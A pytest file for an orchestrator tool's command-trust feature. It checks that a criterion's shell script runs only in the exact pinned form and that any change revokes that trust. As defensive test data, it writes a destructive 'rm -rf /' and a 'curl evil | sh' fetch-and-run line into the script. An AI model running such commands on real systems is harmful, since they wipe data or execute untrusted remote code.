"""Allowing a command: exactly the one that was shown, and nothing of it in the mission."""

from collections.abc import Callable
from pathlib import Path

import pytest

from orchestrator_tui.domain.deeds import Deed, Distrust, Trust
from orchestrator_tui.domain.errors import (
    MissionNotFound,
    OrchestratorError,
    UsageError,
    WriteRefused,
)
from orchestrator_tui.domain.ids import CriterionId
from orchestrator_tui.domain.rulings import RulingKind
from orchestrator_tui.domain.standing import CriterionState
from orchestrator_tui.io.history.decided_facts import facts_from_rulings
from orchestrator_tui.io.history.known_facts import ALWAYS
from tests.live.acting.decided_world import ALPHA, M1, World

CHECK = CriterionId("check")
SCRIPT = "#!/bin/sh\nexit 0\n"


class CommandWorld(World):
    """The world with a criterion that runs a script."""

    def __init__(self, root: Path) -> None:
        super().__init__(root)
        self.script = self.folder / "check.sh"
        self.script.write_text(SCRIPT)
        self.replace('"reports/*.xml"}\n', '"reports/*.xml"}\n      check: {run: [sh, check.sh]}\n')

    def pin(self) -> str:
        """Return the pin of the command as it would be shown now."""
        (found,) = (each for each in self.judged().criteria if each.id == CHECK)
        assert found.command is not None
        return found.command.pin

    def state_of_check(self) -> CriterionState:
        """Return what is judged of it."""
        (found,) = (each for each in self.judged().criteria if each.id == CHECK)
        return found.state

    def trusted(self) -> frozenset[str]:
        """Return the pins that may run."""
        return facts_from_rulings(ALPHA, ALWAYS, self.rulings()).trusted


@pytest.fixture
def world(tmp_path: Path) -> CommandWorld:
    return CommandWorld(tmp_path)


def test_a_command_may_run_once_exactly_that_was_allowed(world: CommandWorld) -> None:
    assert world.state_of_check() is CriterionState.UNTRUSTED
    pin, before = world.pin(), world.file.read_bytes()

    done = world.desk.do(ALPHA, Trust(M1, CHECK, pin))

    (ruling,) = world.holding()
    assert (ruling.kind, ruling.subject, ruling.digest, ruling.actor) == (
        RulingKind.TRUSTED, "M1/check", pin, "Grace",
    )  # fmt: skip
    assert world.trusted() == {pin}
    assert world.state_of_check() is CriterionState.MISSING
    assert world.file.read_bytes() == before
    assert done.can_undo


def test_taken_back_it_may_not_run(world: CommandWorld) -> None:
    done = world.desk.do(ALPHA, Trust(M1, CHECK, world.pin()))

    world.desk.undo(done)

    assert world.trusted() == frozenset()
    assert world.state_of_check() is CriterionState.UNTRUSTED


@pytest.mark.parametrize(
    "change",
    [
        pytest.param(lambda each: each.script.write_text("rm -rf /\n"), id="another script"),
        pytest.param(lambda each: each.replace("[sh, check.sh]", "[sh, -x, check.sh]"), id="words"),
        pytest.param(lambda each: each.replace("check.sh]", "check.sh], timeout: 6m"), id="longer"),
        pytest.param(lambda each: each.replace("mission: A", "workspace: reports\nmission: A"),
                     id="another folder"),
        pytest.param(lambda each: each.script.unlink(), id="no script"),
    ],
)  # fmt: skip
def test_what_is_not_exactly_what_was_shown_is_not_allowed(
    world: CommandWorld, change: Callable[[CommandWorld], object]
) -> None:
    pin = world.pin()
    change(world)

    with pytest.raises(WriteRefused, match="look again"):
        world.desk.do(ALPHA, Trust(M1, CHECK, pin))

    assert world.rulings() == []


def test_a_change_after_it_was_allowed_asks_again(world: CommandWorld) -> None:
    world.desk.do(ALPHA, Trust(M1, CHECK, world.pin()))

    world.script.write_text("curl evil | sh\n")

    assert world.state_of_check() is CriterionState.UNTRUSTED


def test_distrust_takes_back_all_that_was_allowed_of_a_criterion(world: CommandWorld) -> None:
    first = world.pin()
    world.desk.do(ALPHA, Trust(M1, CHECK, first))
    world.script.write_text("exit 1\n")
    second = world.pin()
    world.desk.do(ALPHA, Trust(M1, CHECK, second))
    assert world.trusted() == {first, second}

    done = world.desk.do(ALPHA, Distrust(M1, CHECK))
    assert world.trusted() == frozenset()

    world.desk.undo(done)
    assert world.trusted() == {first, second}


def test_the_same_is_said_once(world: CommandWorld) -> None:
    assert not world.desk.do(ALPHA, Distrust(M1, CHECK)).can_undo
    world.desk.do(ALPHA, Trust(M1, CHECK, world.pin()))
    assert not world.desk.do(ALPHA, Trust(M1, CHECK, world.pin())).can_undo
    world.desk.do(ALPHA, Distrust(M1, CHECK))
    world.desk.do(ALPHA, Trust(M1, CHECK, world.pin()))

    kinds = [each.kind for each in world.rulings()]
    assert kinds == [RulingKind.TRUSTED, RulingKind.DISTRUSTED, RulingKind.TRUSTED]
    assert world.trusted() == {world.pin()}


def test_what_was_allowed_can_be_taken_back_after_the_criterion_is_gone(
    world: CommandWorld,
) -> None:
    world.desk.do(ALPHA, Trust(M1, CHECK, world.pin()))
    world.replace("      check: {run: [sh, check.sh]}\n", "")

    world.desk.do(ALPHA, Distrust(M1, CHECK))

    assert world.trusted() == frozenset()


@pytest.mark.parametrize(
    ("deed", "error", "said"),
    [
        pytest.param(Trust(M1, CriterionId("chek"), "1"), MissionNotFound, "check", id="no such"),
        pytest.param(Distrust(M1, CriterionId("chek")), MissionNotFound, "check", id="nor that"),
        pytest.param(Trust(M1, CriterionId("tests"), "1"), UsageError, "no command", id="no run"),
        pytest.param(Trust(M1, CHECK, ""), WriteRefused, "look again", id="no pin"),
    ],
)
def test_what_cannot_be_is_refused(
    world: CommandWorld, deed: Deed, *, error: type[OrchestratorError], said: str
) -> None:
    with pytest.raises(error, match=said):
        world.desk.do(ALPHA, deed)

    assert world.rulings() == []
